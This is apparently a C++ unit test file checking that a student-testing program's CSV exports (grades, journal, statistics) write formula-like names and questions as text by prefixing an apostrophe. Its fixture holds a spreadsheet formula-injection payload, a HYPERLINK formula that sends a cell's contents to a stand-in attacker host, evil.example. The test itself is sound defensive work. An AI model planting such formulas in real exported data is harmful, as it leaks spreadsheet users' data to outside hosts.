// SPDX-License-Identifier: GPL-3.0-or-later
// The teacher's CSV files keep what students typed as text: a name (or a question) that a
// spreadsheet would take for a formula is written with an apostrophe first, and the numbers the
// program writes stay numbers, in `grades --csv`, `journal --csv` and `stats --csv` alike.

#include "core/storage/code_page.h"
#include "core/storage/scrambled_store.h"
#include "support/admin_run.h"
#include "support/temp_folder.h"
#include "support/test_file_builder.h"

#include <gtest/gtest.h>

using namespace velmora;
using namespace velmora::test;
using namespace Qt::StringLiterals;

namespace {

// Names that registration takes and a spreadsheet would evaluate.
const QStringList kFormulaNames{u"=HYPERLINK(\"http://evil.example/?x=\"&A3;\"Нажмите\")"_s,
                                u"=1+1"_s, u"+1+1"_s, u"-2+3"_s, u"@SUM(1)"_s};

// Each of the names registered with grade 4 in test 1 and a test log line for it; test 1's first
// question looks like a formula too.
class CsvExport : public ::testing::Test {
protected:
    CsvExport() {
        QList<QuestionSpec> questions = numberedQuestions({1});
        questions[0].text = u"-1 больше нуля?"_s;
        writeTestFile(u"test1"_s, questions, u"1"_s);
        QString users;
        QString log;
        for (const QString& name : kFormulaNames) {
            writeini(name, u"password"_s, u"p"_s, u"\\users.ini"_s);
            for (int n = 1; n <= 10; ++n) {
                writeini(name, u"test%1"_s.arg(n), n == 1 ? u"4"_s : u"0"_s, u"\\users.ini"_s);
            }
            users += name + u"\r\n"_s;
            log += name + u" | 10:00:00 | 01.02.2025 | test1 | 4\r\n"_s;
        }
        folder_.write(u"users"_s, CodePage::encode(users));
        folder_.write(u"data/info/tumb.db"_s, "admin|admin|report.txt\r\n");
        folder_.write(u"report.txt"_s, CodePage::encode(log));
    }
    TempFolder folder_;
};

TEST_F(CsvExport, GradesWriteFormulaNamesAsTextAndGradesAsNumbers) {
    const AdminRun run = runAdmin({u"grades"_s, u"--csv"_s});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    const QString grades = u";4;0;0;0;0;0;0;0;0;0\r\n"_s;
    EXPECT_EQ(run.outBytes.toStdString(),
              "\xEF\xBB\xBF" +
                  (u"name;test1;test2;test3;test4;test5;test6;test7;test8;test9;test10\r\n"_s +
                   u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3;\"\"Нажмите\"\")\""_s +
                   grades + u"'=1+1"_s + grades + u"'+1+1"_s + grades + u"'-2+3"_s + grades +
                   u"'@SUM(1)"_s + grades)
                      .toStdString());
}

TEST_F(CsvExport, TheJournalWritesFormulaNamesAsTextAndGradesAsNumbers) {
    const AdminRun run = runAdmin({u"journal"_s, u"--csv"_s});
    // The table is whole; the status tells of the finished tests without an answer log.
    EXPECT_EQ(run.status, 1) << run.err.toStdString();
    EXPECT_EQ(run.err, u"velmora-admin: тестов без строк ответов: 5\n"_s);
    const QString grades = u";4;4,00\r\n"_s;
    EXPECT_EQ(run.outBytes.toStdString(),
              "\xEF\xBB\xBF" +
                  (u"Студент;Тест 1;Средний балл\r\n"_s +
                   u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3;\"\"Нажмите\"\")\""_s +
                   grades + u"'=1+1"_s + grades + u"'+1+1"_s + grades + u"'-2+3"_s + grades +
                   u"'@SUM(1)"_s + grades)
                      .toStdString());
}

TEST_F(CsvExport, StatisticsWriteAFormulaQuestionAsText) {
    const AdminRun run = runAdmin({u"stats"_s, u"test1"_s, u"--csv"_s});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    const QStringList lines = run.out.split(u"\r\n"_s);
    ASSERT_GE(lines.size(), 2) << run.out.toStdString();
    EXPECT_TRUE(lines[1].startsWith(u"1;'-1 больше нуля?;0;"_s)) << lines[1].toStdString();
}

} // namespace
